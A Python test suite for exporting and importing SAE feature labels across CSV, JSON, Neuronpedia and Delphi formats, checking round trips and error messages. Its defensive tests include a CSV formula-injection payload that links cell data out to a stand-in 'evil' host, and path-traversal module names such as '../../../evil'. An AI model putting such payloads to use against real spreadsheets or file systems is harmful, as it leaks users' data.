"""Labels to and from other programs' files: nothing is lost on the way, and a bad file changes nothing."""

import csv
import gzip
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from fake_run import SILENT, fake_run
from hypothesis import given, settings
from hypothesis import strategies as st

from activations.errors import InputError
from app.cli import export as export_verb
from features.exchange import export, import_labels
from features.exchange.as_csv import COLUMNS
from features.labels import SOURCES, Label, Labels, Score

D_SAE = 8
SCORE = Score("tokens", 0.75, 12, upper=0.8, control=0.1, precision=0.7, recall=0.8)
FULL = Label(
    *(1, 'says "no, never";\nthen ‹␣›', "llm", "a model", "explainer", '{"token": ["no"]}'),
    *((SCORE, Score("detection", 0.5, 20, 0.3, 0.7, judge="j")), "2020-01-02T03:04:05Z", "p", "e", "a note"),
)


@pytest.fixture
def run(tmp_path: Path) -> Any:
    (tmp_path / "run").mkdir()
    run = fake_run(tmp_path / "run")
    run.labels.put_automatic(
        [Label(2, "two", "automatic", method="on", scores=(SCORE,))], {"sae_hash": run.index.sae_hash}
    )
    run.labels.add([FULL, Label(5, "five", "person", "me")], starred=[5, 6])
    run.labels.set_note(4, "only a note")
    return run


@pytest.fixture
def other(tmp_path: Path) -> Labels:
    return Labels.open(tmp_path / "other.sqlite")


def words(max_size: int = 12) -> st.SearchStrategy[str]:
    return st.text(st.characters(codec="utf-8"), max_size=max_size)


def names() -> st.SearchStrategy[str]:
    return words().filter(lambda word: word and word == word.strip())


@st.composite
def label_lists(draw: st.DrawFn) -> list[Label]:
    """Labels of several features, as the store keeps them."""
    share, labels = st.floats(0, 1), []
    maybe = st.none() | share
    for feature in draw(st.lists(st.integers(0, D_SAE - 1), unique=True, min_size=1)):
        kinds = draw(st.lists(st.sampled_from(["tokens", "detection", "fuzzing"]), unique=True))
        scores = tuple(
            Score(
                kind, draw(share), draw(st.integers(0, 99)), *(draw(maybe) for _ in range(6)), draw(words())
            )
            for kind in kinds
        )
        note = draw(st.just("") | names())
        source = draw(st.sampled_from(SOURCES))
        texts = [draw(words()) for _ in range(6)]
        labels.append(Label(feature, draw(names()), source, *texts[:3], scores, "2020", *texts[3:5], note))
    return labels


def two_stores(factory: pytest.TempPathFactory, labels: list[Label]) -> tuple[Any, Labels, Path]:
    folder = factory.mktemp("exchange")
    run = fake_run(folder)
    run.labels.add(labels, starred=[labels[0].feature, 7])
    return run, Labels.open(folder / "other.sqlite"), folder / "out"


@settings(max_examples=15, deadline=None)
@given(label_lists())
def test_csv_loses_nothing_that_a_table_can_hold(
    tmp_path_factory: pytest.TempPathFactory, labels: list[Label]
) -> None:
    run, other, out = two_stores(tmp_path_factory, labels)
    export(run, out, "csv")
    import_labels(out, other, D_SAE)
    pd.testing.assert_frame_equal(other.table(), run.labels.table())
    assert patterns(other) == patterns(run.labels)


def patterns(labels: Labels) -> dict[int, str]:
    return {feature: label.pattern for feature, label in labels.all().items()}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.sampled_from("'=+-@\t\r\n ,;x\""), max_size=5), min_size=4, max_size=4))
def test_no_cell_of_a_table_is_a_formula_and_every_text_comes_back(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    label, author, pattern, note = texts
    written = Label(1, label.strip() or "x", "person", author, author, pattern, note=note.strip())
    run, other, out = two_stores(tmp_path_factory, [written])
    export(run, out, "csv")
    with out.open(newline="") as file:
        for row in csv.DictReader(file):
            assert all(not value.startswith(tuple("=+-@\t\r")) for value in row.values())
    import_labels(out, other, D_SAE)
    assert other.get(1) == written


def test_a_formula_of_a_label_stands_behind_a_quotation_mark(run: Any, other: Labels, tmp_path: Path) -> None:
    run.labels.set(0, '=HYPERLINK("//evil/?"&A2)', pattern="-1")
    run.labels.set(7, "'tis one already")
    export(run, tmp_path / "a.csv", "csv", [0, 7])
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(each["label"], each["pattern"]) for each in rows] == [
        ('\'=HYPERLINK("//evil/?"&A2)', "'-1"),
        ("'tis one already", ""),
    ]
    (tmp_path / "hand.csv").write_text("feature,label\n1,-ing\n2,'-ed\n")
    import_labels(tmp_path / "hand.csv", other, D_SAE)
    assert [other.get(feature).text for feature in (1, 2)] == ["-ing", "-ed"]


@settings(max_examples=15, deadline=None)
@given(label_lists())
def test_json_loses_nothing(tmp_path_factory: pytest.TempPathFactory, labels: list[Label]) -> None:
    run, other, out = two_stores(tmp_path_factory, labels)
    export(run, out, "json")
    assert import_labels(out, other, D_SAE) == len(labels)
    assert (
        other.all()
        == run.labels.all()
        == {label.feature: label for label in sorted(labels, key=lambda x: x.feature)}
    )
    made = {f: (label.made, [score.made for score in label.scores]) for f, label in run.labels.all().items()}
    assert {f: (x.made, [score.made for score in x.scores]) for f, x in other.all().items()} == made
    assert other.starred() == run.labels.starred()


@settings(max_examples=15, deadline=None)
@given(label_lists())
def test_neuronpedia_keeps_texts_methods_authors_dates_and_notes(
    tmp_path_factory: pytest.TempPathFactory, labels: list[Label]
) -> None:
    run, other, out = two_stores(tmp_path_factory, labels)
    export(run, out, "neuronpedia")
    import_labels(out, other, D_SAE)
    kept = {
        label.feature: Label(label.feature, label.text, "import", label.author, label.method, note=label.note)
        for label in labels
    }
    assert other.all() == kept
    assert {label.made for label in other.all().values()} == {"2020"}


@settings(max_examples=10, deadline=None)
@given(label_lists())
def test_delphi_keeps_texts(tmp_path_factory: pytest.TempPathFactory, labels: list[Label]) -> None:
    run, other, out = two_stores(tmp_path_factory, labels)
    export(run, out, "delphi")
    import_labels(out, other, D_SAE)
    assert other.all() == {
        label.feature: Label(label.feature, label.text, "import", "delphi") for label in labels
    }


@pytest.mark.parametrize("to", ["csv", "json", "neuronpedia", "delphi"])
def test_reading_a_file_again_adds_nothing(run: Any, other: Labels, tmp_path: Path, to: Any) -> None:
    export(run, tmp_path / "out", to)
    assert import_labels(tmp_path / "out", other, D_SAE) > 0
    change = other.change()
    assert import_labels(tmp_path / "out", other, D_SAE) == 0
    assert other.change() == change


list_names = st.text(st.characters(codec="utf-8"), min_size=1, max_size=6).map(str.strip).filter(bool)


@settings(max_examples=20, deadline=None)
@given(
    st.dictionaries(
        list_names, st.dictionaries(st.integers(0, D_SAE - 1), words().map(str.strip)), max_size=3
    )
)
def test_json_keeps_lists_in_their_order_with_their_notes(
    tmp_path_factory: pytest.TempPathFactory, lists: dict[str, dict[int, str]]
) -> None:
    run, other, out = two_stores(tmp_path_factory, [Label(1, "one")])
    for name, members in lists.items():
        run.labels.add_to_list(name, [])
        for feature, note in members.items():
            run.labels.add_to_list(name, [feature], note)
    export(run, out, "json")
    import_labels(out, other, D_SAE)
    assert other.lists() == {name: len(members) for name, members in lists.items()}
    for name, members in lists.items():
        assert list(other.list_members(name).items()) == list(members.items())
    change = other.change()
    assert import_labels(out, other, D_SAE) == 0
    assert other.change() == change


def test_lists_come_to_those_that_are_there(run: Any, tmp_path: Path, other: Labels) -> None:
    run.labels.add_to_list("mine", [5, 1], "new")
    run.labels.add_to_list("mine", [6])
    run.labels.add_to_list("else", [4])
    assert export(run, tmp_path / "some.json", "json", [6, 5]) == 2
    other.add_to_list("mine", [0, 5], "old")
    import_labels(tmp_path / "some.json", other, D_SAE)
    assert list(other.list_members("mine").items()) == [(0, "old"), (5, "new"), (6, "")]
    assert list(other.lists()) == ["mine"]


def test_lists_alone_are_something_to_export(tmp_path: Path, other: Labels) -> None:
    run = fake_run(tmp_path)
    run.labels.add_to_list("mine", [2])
    assert export(run, tmp_path / "a.json", "json") == 0
    assert import_labels(tmp_path / "a.json", other, D_SAE) == 0
    assert other.list_members("mine") == {2: ""}


def test_a_json_of_another_sae_is_refused_whoever_gave_the_labels(run: Any, tmp_path: Path) -> None:
    """Also into a run that holds no automatic labels, or nothing yet."""
    export(run, tmp_path / "a.json", "json")
    assert json.loads((tmp_path / "a.json").read_text())["sae_hash"] == run.index.sae_hash
    mine = Labels.open(tmp_path / "mine.sqlite", sae_hash="another")
    for _ in range(2):
        with pytest.raises(InputError) as caught:
            import_labels(tmp_path / "a.json", mine, D_SAE)
        assert str(caught.value) == (
            f"{tmp_path}/a.json holds labels of another SAE: import it into the run of that one."
        )
        mine.set(1, "mine")


def test_an_export_says_of_which_sae_it_is_also_without_automatic_labels(tmp_path: Path) -> None:
    run = fake_run(tmp_path)
    run.labels.set(1, "mine")
    export(run, tmp_path / "a.json", "json")
    assert json.loads((tmp_path / "a.json").read_text())["sae_hash"] == run.index.sae_hash


def test_what_comes_back_to_its_own_run_is_known_there(run: Any, tmp_path: Path) -> None:
    for to in ("csv", "json"):
        export(run, tmp_path / to, to)
        assert import_labels(tmp_path / to, run.labels, D_SAE) == 0
    assert run.labels.get(1) == FULL


def test_a_table_that_a_person_made(other: Labels, tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_bytes("\ufeffLabel;Feature;f1\r\nthe receiver;3;0.5\r\n\r\n;4;\r\n".encode())
    assert import_labels(path, other, D_SAE) == 1
    assert other.all() == {3: Label(3, "the receiver", "import", scores=(Score("tokens", 0.5, 0),))}


def test_json_that_a_person_made_also_gzipped(other: Labels, tmp_path: Path) -> None:
    path = tmp_path / "labels.json.gz"
    path.write_bytes(
        gzip.compress(b'[{"feature": 3, "label": "x"},\n {"feature": 4, "label": "", "note": "n"}]')
    )
    assert import_labels(path, other, D_SAE) == 2
    assert other.all() == {3: Label(3, "x", "import"), 4: Label(4, "", note="n")}


def row(feature: Any, text: Any, **more: Any) -> str:
    values = {
        "modelId": "gpt2-small",
        "layer": "6-res-jb",
        "index": str(feature),
        "description": text,
        **more,
    }
    return json.dumps(values)


def test_several_explanations_of_a_feature_are_its_history(other: Labels, tmp_path: Path) -> None:
    folder = tmp_path / "6-res-jb" / "explanations"
    folder.mkdir(parents=True)
    lines = [
        row(3, "newer", createdAt="2024-02-01", explanationModelName="gpt", typeName="np_acts"),
        row(3, "older", createdAt="2023-02-01", authorId="someone", embedding=[0.5] * 256),
        row(4, ""),
    ]
    (folder / "batch-0.jsonl.gz").write_bytes(gzip.compress(("\n".join(lines) + "\n").encode()))
    (folder / "batch-1.jsonl.gz").write_bytes(gzip.compress(row(5, "five").encode()))
    assert import_labels(folder.parent, other, D_SAE) == 3
    assert [(x.text, x.author, x.method, x.made) for x in other.history(3)] == [
        ("newer", "gpt", "np_acts", "2024-02-01"),
        ("older", "someone", "", "2023-02-01"),
    ]
    assert sorted(other.all()) == [3, 5]
    assert import_labels(folder, other, D_SAE) == 0
    other.add([Label(3, "mine now", "import")])
    assert import_labels(folder, other, D_SAE) == 1  # the file's last one counts again
    assert [label.text for label in other.history(3)] == ["newer", "mine now", "newer", "older"]


def test_explanations_have_the_keys_that_neuronpedia_uses(run: Any, tmp_path: Path) -> None:
    assert export(run, tmp_path / "out", "neuronpedia", model_id="gpt2-small", source_id="6-res-jb") == 3
    (path,) = (tmp_path / "out").rglob("*.*")
    assert path.relative_to(tmp_path / "out").as_posix() == "explanations/batch-0.jsonl.gz"
    rows = [json.loads(line) for line in gzip.decompress(path.read_bytes()).splitlines()]
    assert [set(each) for each in rows] == 3 * [
        {
            *("id", "modelId", "layer", "index", "description", "authorId", "embedding", "triggeredById"),
            *("typeName", "explanationModelName", "notes", "createdAt"),
        }
    ]
    assert (rows[0]["modelId"], rows[0]["layer"], rows[0]["index"]) == ("gpt2-small", "6-res-jb", "1")
    assert (rows[0]["explanationModelName"], rows[0]["typeName"], rows[0]["authorId"]) == (
        "a model",
        "explainer",
        None,
    )
    assert (rows[2]["authorId"], rows[2]["explanationModelName"]) == ("me", None)


def test_delphis_scores_are_balanced_accuracies(other: Labels, tmp_path: Path) -> None:
    (tmp_path / "explanations").mkdir()
    (tmp_path / "explanations" / "layers.3_latent2.txt").write_text('"two"')
    for scorer, answers in (("detection", [True, True, None, False, True]), ("fuzz", [True] * 5)):
        (tmp_path / "scores" / scorer).mkdir(parents=True)
        truths = [True, True, True, True, False]
        cases = [
            {"activating": t, "prediction": a, "str_tokens": []} for t, a in zip(truths, answers, strict=True)
        ]
        (tmp_path / "scores" / scorer / "layers.3_latent2.txt").write_text(json.dumps(cases))
    assert import_labels(tmp_path, other, D_SAE) == 1
    found = other.get(2)
    assert (found.text, found.source, found.author) == ("two", "import", "delphi")
    detection, fuzzing = found.score_of("detection"), found.score_of("fuzzing")
    assert (detection.value, detection.n) == (pytest.approx((2 / 3 + 0) / 2), 4)
    assert (fuzzing.value, fuzzing.n) == (0.5, 5)
    assert detection.low < detection.value < detection.high


GOOD = "feature,label\n1,one\n"


def put(name: str, content: str | bytes) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path if "/" not in name else folder / name.partition("/")[0]

    return write


BAD = [
    (lambda folder: folder / "none.csv", "{}/none.csv does not exist."),
    (put("a.csv", " \n"), "{}/a.csv is empty: it must hold labels."),
    (put("a.csv", "feature,label\n"), "{}/a.csv holds no label."),
    (
        put("a.csv", "id,label\n1,x"),
        "{}/a.csv has no column 'feature' (it has id, label): it needs feature and label.",
    ),
    (
        put("a.csv", "feature,label,notes\n1,x,y"),
        "{}/a.csv has the column 'notes', which is not known: the columns are " + ", ".join(COLUMNS) + ".",
    ),
    (put("a.csv", "feature,label,label\n1,x,y"), "{}/a.csv has the column 'label' twice: leave one of them."),
    (put("a.csv", GOOD + "8,x"), "{}/a.csv, line 3: there is no feature 8: the SAE has the features 0 to 7."),
    (put("a.csv", GOOD + "-1,x"), "{}/a.csv, line 3: the feature is '-1', and must be a whole number."),
    (put("a.csv", GOOD + "x,x"), "{}/a.csv, line 3: the feature is 'x', and must be a whole number."),
    (put("a.csv", GOOD + '2,"a\nb"\n2,x,y'), "{}/a.csv, line 5: 3 cells stand under 2 columns."),
    (put("a.csv", GOOD + '2,"x'), "{}/a.csv, line 3: this is not valid CSV (unexpected end of data)."),
    (
        put("a.csv", GOOD.encode() + b"2,\xff"),
        "{}/a.csv, line 3: this is not UTF-8 text: save the file as UTF-8.",
    ),
    (
        put("a.csv", "feature,label,f1\n1,x,1.5"),
        "{}/a.csv, line 2: f1 is '1.5', and must be a number from 0 to 1.",
    ),
    (
        put("a.csv", "feature,label,f1\n1,x,nan"),
        "{}/a.csv, line 2: f1 is 'nan', and must be a number from 0 to 1.",
    ),
    (
        put("a.csv", "feature,label,f1,n\n1,x,1,2.5"),
        "{}/a.csv, line 2: n is '2.5', and must be a whole number from 0 on.",
    ),
    (
        put("a.csv", "feature,label,f1,upper\n1,x,,1"),
        "{}/a.csv, line 2: upper or control is given without f1.",
    ),
    (
        put("a.csv", "feature,label,source\n1,x,me"),
        "{}/a.csv, line 2: source is 'me', and must be one of person, llm, import, automatic.",
    ),
    (
        put("a.json", '{"kind": "labels",'),
        "{}/a.json: this is not valid JSON (Expecting property name enclosed in",
    ),
    (put("a.json", '{"labels": []}'), "{}/a.json is JSON of something else, not of labels."),
    (put("a.json", "[]"), "{}/a.json holds no label."),
    (put("a.json", '[{"feature": 1}]'), "{}/a.json, label 1: the key 'label' is missing."),
    (put("a.json", "[3]"), "{}/a.json, label 1: this is 3, and must be an object."),
    (put("a.json", '[{"feature": 1, "label": 3}]'), "{}/a.json, label 1: label is 3, and must be a text."),
    (
        put("a.json", '[{"feature": true, "label": "x"}]'),
        "{}/a.json, label 1: the feature is true, and must be a whole number.",
    ),
    (
        put("a.json", '[{"feature": 1, "label": "\\ud800"}]'),
        "{}/a.json, label 1: label holds half of a character, and must be valid Unicode.",
    ),
    (
        put("a.json", '[{"feature": 1, "label": "x", "scores": [{"kind": "tokens", "value": 2}]}]'),
        "{}/a.json, label 1: value is 2, and must be a number from 0 to 1.",
    ),
    (
        put("a.json", '[{"feature": 1, "label": " "}]'),
        "{}/a.json, label 1: it has neither a label nor a note.",
    ),
    (
        put("a.json", '{"kind": "labels", "format_version": 9,\n"labels": []}'),
        "{}/a.json was written in format 9, and this saescope reads up to format 1: install a newer saescope.",
    ),
    (
        put("a.json", '{"kind": "labels", "format_version": 1, "sae_hash": "x",\n"labels": []}'),
        "{}/a.json holds labels of another SAE: import it into the run of that one.",
    ),
    (
        put(
            "a.json",
            '{"kind": "labels", "format_version": 1, "labels": [],\n"lists": {"l": [{"feature": 8}]}}',
        ),
        "{}/a.json, list 'l': there is no feature 8: the SAE has the features 0 to 7.",
    ),
    (
        put("a.json", '{"kind": "labels", "format_version": 1, "labels": [],\n"lists": {"l": 3}}'),
        "{}/a.json, list 'l': a list must have a name and a list of members.",
    ),
    (
        put("a.jsonl.gz", gzip.compress(row(1, "x").encode() * 99)[:-9]),
        "{}/a.jsonl.gz is a gzip file that is cut short or damaged: get it again.",
    ),
    (
        put("a.jsonl", row(1, "x") + "\n" + row(9, "x")),
        "{}/a.jsonl, line 2: there is no feature 9: the SAE has the",
    ),
    (
        put("a.jsonl", row(1, "x") + "\n{"),
        "{}/a.jsonl, line 2: this is not valid JSON (Expecting property name",
    ),
    (put("a.jsonl", row(1, 7)), "{}/a.jsonl, line 1: description is 7, and must be a text."),
    (put("a.jsonl", '{"index": "1"}'), "{}/a.jsonl, line 1: the key 'modelId' is missing."),
    (
        put("a.jsonl", row(1, "x") + "\n" + row(1, "x", layer="7-res-jb")),
        "{}/a.jsonl, line 2: this is of gpt2-small/7-res-jb, and the lines before are of gpt2-small/6-res-jb: import"
        " the files of one source.",
    ),
    (
        put("folder/readme.txt", "x"),
        "{}/folder holds no labels: a folder must have Neuronpedia's explanations/batch-0.jsonl.gz or delphi's"
        " explanations/MODULE_latent0.txt.",
    ),
    (
        put("folder/m_latent9.txt", '"x"'),
        "{}/folder/m_latent9.txt: there is no feature 9: the SAE has the features",
    ),
    (put("folder/m_latent1.txt", "x"), "{}/folder/m_latent1.txt: this is not valid JSON (Expecting value"),
    (put("folder/m_latent1.txt", "3"), "{}/folder/m_latent1.txt: the explanation is 3, and must be a text."),
]


@pytest.mark.parametrize(("write", "sentence"), BAD)
def test_a_bad_file_is_one_sentence_and_changes_nothing(
    other: Labels, tmp_path: Path, write: Callable[[Path], Path], sentence: str
) -> None:
    other.put_automatic([Label(1, "before", "automatic")], {"sae_hash": "abc"})
    change = other.change()
    with pytest.raises(InputError) as caught:
        import_labels(write(tmp_path), other, D_SAE)
    said = str(caught.value)
    assert said.startswith(sentence.replace("{}", str(tmp_path)))
    assert said.endswith(".")
    assert "\n" not in said
    assert other.change() == change


def test_delphis_modules_are_not_mixed(other: Labels, tmp_path: Path) -> None:
    for module in ("layers.1", "layers.2"):
        (tmp_path / f"{module}_latent0.txt").write_text('"x"')
    with pytest.raises(InputError) as caught:
        import_labels(tmp_path, other, D_SAE)
    assert str(caught.value) == (
        f"{tmp_path} holds explanations of 2 modules (layers.1, layers.2): leave the files of one of them."
    )


def test_an_upload_has_neuronpedias_keys_and_keeps_its_limits(tmp_path: Path) -> None:
    (tmp_path / "run").mkdir()
    run = fake_run(tmp_path / "run", d_sae=300)
    run.labels.add([Label(0, "x" * 600, "llm", "a model", "explainer"), Label(1, "", note="only a note")])
    assert (
        export(run, tmp_path / "out", "neuronpedia-batch", model_id="gpt2-small", source_id="6-res-x") == 299
    )
    bodies = [json.loads((tmp_path / "out" / f"batch-{n}.json").read_text()) for n in range(3)]
    assert [len(body["features"]) for body in bodies] == [128, 128, 43]
    assert len(list((tmp_path / "out").iterdir())) == 3
    features = [feature for body in bodies for feature in body["features"]]
    assert [feature["index"] for feature in features] == [f for f in range(300) if f != SILENT]
    for body in bodies:
        assert {key: body[key] for key in ("modelId", "source")} == {
            "modelId": "gpt2-small",
            "source": "6-res-x",
        }
        assert set(body) == {"modelId", "source", "features"}
    first, second = features[:2]
    assert set(first) == {"index", "density", "topLogits", "bottomLogits", "explanations", "activations"}
    assert first["explanations"] == [
        {"text": "x" * 511 + "…", "methodName": "explainer", "modelName": "a model"}
    ]
    assert second["explanations"] == []
    assert first["density"] == 250 / 100_000
    assert len(first["topLogits"]) == len(first["bottomLogits"]) == 20
    assert (first["topLogits"][0], first["bottomLogits"][1]) == (
        {"token": "self", "value": 1.0},
        {"token": ".", "value": -0.5},
    )
    assert (
        len(first["activations"]) == 20 + 10 * 3 - 3
    )  # three examples of the lowest band are among the strongest
    for activation in first["activations"]:
        assert set(activation) == {"tokens", "values", "quantileMin", "quantileMax", "quantileFraction"}
        assert len(activation["tokens"]) == len(activation["values"]) == 64
    ends = [(a["quantileMin"], a["quantileMax"], a["quantileFraction"]) for a in first["activations"]]
    assert ends[:20] == [(-1, 4.0, -1)] * 20
    assert ends[20:23] == [(3.6, 4.0, 0.1)] * 3


def test_a_feature_without_an_example_is_not_uploaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its firings may all have been left out of the examples; the count of it is not 0."""
    (tmp_path / "run").mkdir()
    run = fake_run(tmp_path / "run", d_sae=200)
    for name in ("top_examples", "range_examples"):
        examples = getattr(run.index, name)
        monkeypatch.setattr(run.index, name, lambda f, of=examples: of(f) if f not in (0, 150) else [])
    assert export(run, tmp_path / "out", "neuronpedia-batch") == 197
    bodies = [json.loads((tmp_path / "out" / f"batch-{n}.json").read_text()) for n in range(2)]
    assert [len(body["features"]) for body in bodies] == [128, 69]
    features = [feature for body in bodies for feature in body["features"]]
    assert [each["index"] for each in features] == [f for f in range(200) if f not in (0, SILENT, 150)]
    assert all(each["activations"] for each in features)
    with pytest.raises(InputError, match="None of these features has an example in the index"):
        export(run, tmp_path / "none", "neuronpedia-batch", [0, SILENT])
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize("module", ["../../../evil", "gemma/6-res", "..", "a\\b"])
def test_a_module_that_names_another_folder_is_refused(run: Any, tmp_path: Path, module: str) -> None:
    (tmp_path / "deep").mkdir()
    with pytest.raises(InputError) as caught:
        export(run, tmp_path / "deep" / "out", "delphi", source_id=module)
    assert str(caught.value) == (
        f"The module {module!r} is part of the names of files: it must hold no /, no \\ and no two dots."
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["deep", "run"]
    assert list((tmp_path / "deep").iterdir()) == []
    assert export(run, tmp_path / "out", "neuronpedia", source_id=module) == 3  # there it is no file's name


def test_features_are_written_in_the_order_in_which_they_are_asked_for(run: Any, tmp_path: Path) -> None:
    assert export(run, tmp_path / "a.csv", "csv", [5, 0, 1, 5]) == 2
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(each["feature"], each["label"], each["starred"]) for each in rows] == [
        ("5", "five", "true"),
        ("1", FULL.text, ""),
    ]
    assert (rows[1]["f1"], rows[1]["upper"], rows[1]["control"], rows[1]["n"]) == ("0.75", "0.8", "0.1", "12")
    assert (rows[1]["detection"], rows[1]["fuzzing"], rows[0]["f1"]) == ("0.5", "", "")
    assert tuple(rows[0]) == COLUMNS
    assert export(run, tmp_path / "a.json", "json", np.array([5, 1])) == 2
    assert [x["feature"] for x in json.loads((tmp_path / "a.json").read_text())["labels"]] == [5, 1]


def test_what_cannot_be_exported_is_one_sentence_and_writes_nothing(run: Any, tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine").touch()
    nothing = "None of these features"
    cases: list[tuple[str, Any, list[int] | None, str]] = [
        ("full", "csv", None, f"{tmp_path}/full is a folder: name a file."),
        ("full", "delphi", None, f"{tmp_path}/full is there already: name a new or empty folder."),
        ("new", "csv", [8], "There is no feature 8: fake has the features 0 to 7."),
        ("new", "html", None, "A page of all features would be too long: name some features or a list."),
        ("new", "csv", [0], f"{nothing} has a label, a note or a star: there is nothing to export."),
        ("new", "json", [0], f"{nothing} has a label, a note or a star: there is nothing to export."),
        ("new", "neuronpedia", [4], f"{nothing} has a label: there is nothing to export."),
        (
            "new",
            "neuronpedia-batch",
            [SILENT],
            f"{nothing} has an example in the index: there is nothing to upload.",
        ),
    ]
    for out, to, features, sentence in cases:
        with pytest.raises(InputError) as caught:
            export(run, tmp_path / out, to, features)
        assert str(caught.value) == sentence
    assert not (tmp_path / "new").exists()


def test_the_verb_exports_every_format(
    run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("features.run.open_run", lambda path: run)
    run.labels.add_to_list("mine", [5, 1])
    for to in ("csv", "json", "neuronpedia", "neuronpedia-batch", "delphi", "html"):
        export_verb.main([str(tmp_path / "run"), str(tmp_path / to), "--to", to, "--list", "mine"])
        assert f"{tmp_path / to}: 2 features as {to}" in capsys.readouterr().out
        assert (tmp_path / to).exists()
    export_verb.main([str(tmp_path / "run"), str(tmp_path / "one"), "--to", "html", "--features", "2"])
    assert f"{tmp_path / 'one'}: 1 feature as html" in capsys.readouterr().out
    assert '<section id="feature-2">' in (tmp_path / "one").read_text()
    with pytest.raises(InputError, match="Both --features and --list"):
        export_verb.main([str(tmp_path), "x", "--to", "csv", "--features", "1", "--list", "mine"])
    with pytest.raises(InputError, match="There is no list 'other'"):
        export_verb.main([str(tmp_path), str(tmp_path / "x"), "--to", "csv", "--list", "other"])


def test_an_imported_label_keeps_its_source_and_stands_in_order(run: Any, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("feature,label,source\n2,imported,\n5,imported,\n1,a person's,person\n")
    assert import_labels(path, run.labels, D_SAE) == 3
    assert [run.labels.get(f).text for f in (1, 2, 5)] == ["a person's", "imported", "five"]
    assert replace(run.labels.get(1), note="") == Label(1, "a person's", "person")
